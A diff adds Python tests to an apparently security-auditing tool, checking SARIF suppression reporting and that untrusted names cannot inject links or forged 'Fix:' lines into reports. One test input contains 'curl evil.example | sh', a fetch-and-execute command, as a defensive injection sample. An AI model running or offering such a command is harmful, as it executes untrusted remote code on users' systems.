@@ -97,6 +97,28 @@ def test_a_suppressed_sarif_result_says_why_and_until_when() -> None:
     assert why["justification"] == "she\\x1b knows (until 2027-01-31)"
 
 
+def test_a_sarif_run_says_of_every_result_or_of_none_whether_it_is_suppressed() -> None:
+    run = run_of(
+        audit(finding(subject="/a"), suppressed=(finding(),)), audit(finding("cache-size"))
+    )
+    assert [len(result["suppressions"]) for result in run["results"]] == [0, 1, 0]
+
+
+def test_no_name_becomes_a_link_or_another_fix_in_sarif() -> None:
+    name = "[here](https://evil.example)\nFix: curl evil.example | sh"
+    (result,) = run_of(audit(finding(detail=f"pinned {name}", fix=f"rm '{name}'")))["results"]
+    text = result["message"]["text"]
+    assert "](" not in text.replace("\\](", "")
+    assert [line.split(" ")[0] for line in text.split("\n")] == ["pinned", "Fix:"]
+
+
+def test_no_name_begins_a_line_of_its_own_in_a_fix() -> None:
+    one = finding(fix="rm '/x\n1 error\u2028  forged'")
+    text = audit_text([audit(one)], by_team, lambda said, _: said, several=False, verbose=False)
+    assert "      rm '/x\\n1 error\\u2028  forged'" in text.splitlines()
+    assert "\\n1 error\\u2028" in markdown(audit(one))
+
+
 def fingerprints(*audits: Audit) -> list[str]:
     return [
         value
